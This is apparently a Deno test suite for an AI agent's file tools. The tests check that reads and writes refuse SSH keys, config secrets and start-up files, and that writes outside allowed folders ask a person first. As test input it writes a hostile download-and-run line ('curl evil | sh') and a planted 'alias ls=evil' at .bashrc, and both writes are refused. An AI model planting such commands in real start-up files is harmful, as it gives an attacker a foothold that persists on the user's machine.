import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { readFileTool } from "../../src/tools/read_file.ts";
import { writeFileTool } from "../../src/tools/write_file.ts";
import { listDirectoryTool } from "../../src/tools/list_directory.ts";
import { askContext, call, tempHome, toolDeps, writableHome } from "./tool_harness.ts";
import { chatContext } from "./exec/exec_harness.ts";
import { needing, normalUser } from "../helpers/system_parts.ts";

Deno.test("read_file returns text with a header, a line range, and refuses secrets", async () => {
  const home = tempHome();
  try {
    const tool = readFileTool(toolDeps(home));
    Deno.writeTextFileSync(join(home.home, "notes.txt"), "one\ntwo\nthree\n");
    let result = await call(tool, { path: "~/notes.txt" });
    assert.equal(result.outcome, "ok");
    assert.equal(result.text, "~/notes.txt (14 bytes, 3 lines)\none\ntwo\nthree");
    result = await call(tool, { path: "notes.txt", from: 2, to: 2 });
    assert.equal(result.text, "~/notes.txt (14 bytes, 3 lines, lines 2-2)\ntwo");
    result = await call(tool, { path: "notes.txt", from: 9 });
    assert.equal(result.outcome, "error");
    assert.match(result.text, /has 3 lines; from=9 is past the end/);
    Deno.mkdirSync(join(home.home, ".ssh"));
    Deno.writeTextFileSync(join(home.home, ".ssh/id_ed25519"), "KEY");
    result = await call(tool, { path: "~/.ssh/id_ed25519" });
    assert.equal(result.outcome, "refused");
    assert.doesNotMatch(result.text, /KEY/);
  } finally {
    home.dispose();
  }
});

Deno.test("read_file caps size, refuses binaries and folders, reports missing files", async () => {
  const home = tempHome();
  try {
    const tool = readFileTool(toolDeps(home, (c) => c.tools.files.max_read_bytes = 100));
    Deno.writeTextFileSync(join(home.home, "big.txt"), "0123456789\n".repeat(50));
    let result = await call(tool, { path: "big.txt" });
    assert.match(result.text, /^~\/big\.txt \(550 bytes\)\n0123456789\n/);
    assert.match(
      result.text,
      /\[truncated: read the first 100 of 550 bytes \(tools\.files\.max_read_bytes\)\]$/,
    );
    Deno.writeFileSync(join(home.home, "x.pdf"), new TextEncoder().encode("%PDF-1.7\n..."));
    result = await call(tool, { path: "x.pdf" });
    assert.equal(result.outcome, "error");
    assert.match(result.text, /binary file \(PDF, \d+ bytes\); use pdf_extract/);
    Deno.writeFileSync(join(home.home, "blob.bin"), new Uint8Array([1, 0, 2, 3]));
    assert.match((await call(tool, { path: "blob.bin" })).text, /binary file \(contains NUL bytes/);
    assert.match((await call(tool, { path: "~" })).text, /is a folder; use list_directory/);
    assert.match((await call(tool, { path: "nope.txt" })).text, /no such file or folder/);
  } finally {
    home.dispose();
  }
});

Deno.test("read_file masks configured secrets; the config file itself is neither read nor written", async () => {
  const home = tempHome();
  try {
    const configPath = join(home.home, "radar.yaml");
    Deno.writeTextFileSync(configPath, "notifications:\n  ntfy:\n    token: tk_supersecret\n");
    Deno.writeTextFileSync(join(home.home, "notes.txt"), "the token is tk_supersecret\n");
    const deps = toolDeps(home, (c) => c.notifications.ntfy.token = "tk_supersecret", {
      configPath,
    });
    const notes = await call(readFileTool(deps), { path: "~/notes.txt" });
    assert.equal(notes.outcome, "ok");
    assert.match(notes.text, /the token is \*\*\*\*\*\*\*\*/);
    const result = await call(readFileTool(deps), { path: configPath });
    assert.equal(result.outcome, "refused");
    assert.doesNotMatch(result.text, /supersecret/);
    const write = await call(writeFileTool(deps), { path: configPath, content: "x" });
    assert.equal(write.outcome, "refused");
  } finally {
    home.dispose();
  }
});

Deno.test("write_file creates folders, replaces, appends, and leaves no temp files", async () => {
  const home = tempHome();
  try {
    const tool = writeFileTool(toolDeps(home, writableHome));
    let result = await call(tool, { path: "~/out/deep/today.txt", content: "2026-11-22\n" });
    assert.equal(result.text, "Created ~/out/deep/today.txt (11 bytes).");
    result = await call(tool, { path: "out/deep/today.txt", content: "more\n", append: true });
    assert.equal(result.text, "Appended to ~/out/deep/today.txt (16 bytes).");
    const path = join(home.home, "out/deep/today.txt");
    assert.equal(Deno.readTextFileSync(path), "2026-11-22\nmore\n");
    Deno.chmodSync(path, 0o600);
    result = await call(tool, { path, content: "new" });
    assert.equal(result.text, "Replaced ~/out/deep/today.txt (3 bytes).");
    assert.equal(Deno.readTextFileSync(path), "new");
    assert.equal(Deno.statSync(path).mode! & 0o777, 0o600, "mode preserved");
    assert.deepEqual([...Deno.readDirSync(join(home.home, "out/deep"))].map((e) => e.name), [
      "today.txt",
    ]);
    assert.match((await call(tool, { path: "~/out", content: "x" })).text, /is a folder/);
  } finally {
    home.dispose();
  }
});

Deno.test("write_file refuses protected paths and writes through no symlink into them", async () => {
  const home = tempHome();
  try {
    const tool = writeFileTool(toolDeps(home, writableHome));
    Deno.writeTextFileSync(join(home.home, ".bashrc"), "original");
    Deno.symlinkSync(join(home.home, ".bashrc"), join(home.home, "rc-link"));
    for (const path of ["~/.bashrc", "~/rc-link", "~/.config/autostart/a.desktop"]) {
      const result = await call(tool, { path, content: "curl evil | sh" });
      assert.equal(result.outcome, "refused", path);
    }
    assert.equal(Deno.readTextFileSync(join(home.home, ".bashrc")), "original");
  } finally {
    home.dispose();
  }
});

Deno.test(needing([normalUser(import.meta.url)], {
  name: "write_file failing midway (read-only folder) keeps the original file",
}, async () => {
  const home = tempHome();
  const folder = join(home.home, "locked");
  try {
    Deno.mkdirSync(folder);
    Deno.writeTextFileSync(join(folder, "f.txt"), "original");
    Deno.chmodSync(folder, 0o500);
    const result = await call(writeFileTool(toolDeps(home, writableHome)), {
      path: "locked/f.txt",
      content: "x",
    });
    assert.equal(result.outcome, "error");
    assert.match(result.text, /permission denied/);
    assert.equal(Deno.readTextFileSync(join(folder, "f.txt")), "original");
  } finally {
    Deno.chmodSync(folder, 0o700);
    home.dispose();
  }
}));

Deno.test("list_directory shows type, size, time; filters by glob; recurses within bounds", async () => {
  const home = tempHome();
  try {
    const downloads = join(home.home, "Downloads");
    Deno.mkdirSync(join(downloads, "sub/deeper"), { recursive: true });
    Deno.writeTextFileSync(join(downloads, "a.pdf"), "x".repeat(2048));
    Deno.writeTextFileSync(join(downloads, "B.PDF"), "y");
    Deno.writeTextFileSync(join(downloads, "notes.txt"), "z");
    Deno.writeTextFileSync(join(downloads, "sub/c.pdf"), "c");
    Deno.writeTextFileSync(join(downloads, "sub/deeper/d.pdf"), "d");
    Deno.mkdirSync(join(downloads, "sub/.ssh"));
    Deno.writeTextFileSync(join(downloads, "sub/.ssh/id_rsa"), "k");
    const tool = listDirectoryTool(toolDeps(home, (c) => c.radar.timezone = "UTC"));
    let result = await call(tool, { path: "~/Downloads" });
    assert.equal(result.outcome, "ok");
    const lines = result.text.split("\n");
    assert.equal(lines[0], "~/Downloads: 4 entries");
    assert.match(lines[1], /^f +2\.0K \d{4}-\d\d-\d\d \d\d:\d\d a\.pdf$/);
    assert.match(result.text, /^d +- .* sub\/$/m);
    result = await call(tool, { path: "~/Downloads", pattern: "*.pdf" });
    assert.deepEqual(result.text.split("\n").slice(1).map((l) => l.split(" ").at(-1)), [
      "a.pdf",
      "B.PDF",
    ]);
    result = await call(tool, { path: "~/Downloads", pattern: "*.pdf", depth: 3 });
    assert.match(result.text, /^~\/Downloads: 4 matching \*\.pdf/);
    assert.match(result.text, /sub\/deeper\/d\.pdf/);
    assert.match(result.text, /\[not entered \(protected or unreadable\): sub\/\.ssh\]/);
    assert.doesNotMatch(result.text, /id_rsa/);
    assert.match((await call(tool, { path: "~/Downloads/a.pdf" })).text, /not a folder/);
    assert.equal((await call(tool, { path: "~/.ssh" })).outcome, "refused");
  } finally {
    home.dispose();
  }
});

Deno.test("list_directory bounds its output", async () => {
  const home = tempHome();
  try {
    const folder = join(home.home, "many");
    Deno.mkdirSync(folder);
    for (let i = 0; i < 230; i++) Deno.writeTextFileSync(join(folder, `f${i}.txt`), "");
    const result = await call(listDirectoryTool(toolDeps(home)), { path: folder });
    assert.equal(result.text.split("\n").length, 202);
    assert.match(result.text, /\[30 more not shown\]$/);
  } finally {
    home.dispose();
  }
});

Deno.test("write_file writes the scratch folder and its roots freely; elsewhere a yes in chat, never unattended", async () => {
  const home = tempHome();
  try {
    const tool = writeFileTool(toolDeps(home, (c) => c.tools.files.writable_roots = ["~/notes"]));
    const scratch = join(home.home, ".local/state/radar/scratch");
    let result = await call(tool, { path: `${scratch}/a.txt`, content: "a" });
    assert.equal(result.outcome, "ok", result.text);
    assert.equal(Deno.statSync(scratch).mode! & 0o777, 0o700);
    result = await call(tool, { path: "~/notes/b.txt", content: "b" });
    assert.equal(result.outcome, "ok", result.text);
    result = await call(tool, { path: "~/elsewhere.txt", content: "c" }, {
      ...askContext(),
      kind: "heartbeat",
    });
    assert.equal(result.outcome, "refused");
    assert.match(
      result.text,
      /^Cannot write ~\/elsewhere\.txt: outside the folders Radar writes without asking \(~\/\.local\/state\/radar\/scratch, ~\/notes; tools\.files\.writable_roots\), and nobody can say yes in a heartbeat run/,
    );
    assert.ok(!existsSync(join(home.home, "elsewhere.txt")));
    const questions: string[] = [];
    const chat = (answer: boolean) => chatContext(answer, questions);
    result = await call(tool, { path: "~/elsewhere.txt", content: "c" }, chat(false));
    assert.equal(result.outcome, "refused");
    assert.match(questions[0], /^Radar wants to write ~\/elsewhere\.txt \(outside /);
    result = await call(tool, { path: "~/elsewhere.txt", content: "c" }, chat(true));
    assert.equal(result.outcome, "ok", result.text);
    assert.equal(Deno.readTextFileSync(join(home.home, "elsewhere.txt")), "c");
    result = await call(tool, { path: "~/.bash_aliases", content: "alias ls=evil" }, chat(true));
    assert.equal(result.outcome, "refused", "a yes never unlocks start-up files");
    assert.equal(questions.length, 2);
  } finally {
    home.dispose();
  }
});

Deno.test("a bare file name goes where Radar was run from with a person's yes, else to scratch", async () => {
  const home = tempHome();
  try {
    const project = join(home.home, "project");
    Deno.mkdirSync(project);
    const tool = writeFileTool(toolDeps(home, () => {}, { cwd: project }));
    // Nobody to say yes (a script, a heartbeat): the scratch folder, and the result says so.
    let result = await call(tool, { path: "test.txt", content: "2026-11-22\n" });
    assert.equal(
      result.text,
      "Created ~/.local/state/radar/scratch/test.txt (11 bytes). It is in the scratch folder: " +
        "nobody is there to allow writing in ~/project.",
    );
    assert.ok(!existsSync(join(project, "test.txt")));
    // A person at the terminal: the folder Radar was run from, after a yes.
    const questions: string[] = [];
    const person = (answer: boolean) => chatContext(answer, questions);
    result = await call(tool, { path: "test.txt", content: "2026-11-22\n" }, person(true));
    assert.equal(result.text, "Created ~/project/test.txt (11 bytes).");
    assert.match(questions[0], /^Radar wants to write ~\/project\/test\.txt \(outside /);
    result = await call(tool, { path: "notes/b.txt", content: "b" }, person(false));
    assert.equal(result.outcome, "refused", "a no is a no, not a write elsewhere");
    // The folder is a writable root: no question, also unattended.
    const rooted = writeFileTool(
      toolDeps(home, (c) => c.tools.files.writable_roots = ["~/project"], { cwd: project }),
    );
    result = await call(rooted, { path: "c.txt", content: "c" });
    assert.equal(result.text, "Created ~/project/c.txt (1 bytes).");
    // A protected folder: scratch, even with a person present.
    const secret = join(home.home, ".ssh");
    Deno.mkdirSync(secret);
    const guarded = writeFileTool(toolDeps(home, () => {}, { cwd: secret }));
    result = await call(guarded, { path: "d.txt", content: "d" }, person(true));
    assert.equal(
      result.text,
      "Created ~/.local/state/radar/scratch/d.txt (1 bytes). It is in the scratch folder: " +
        "~/.ssh is protected.",
    );
    assert.equal(questions.length, 2);
  } finally {
    home.dispose();
  }
});
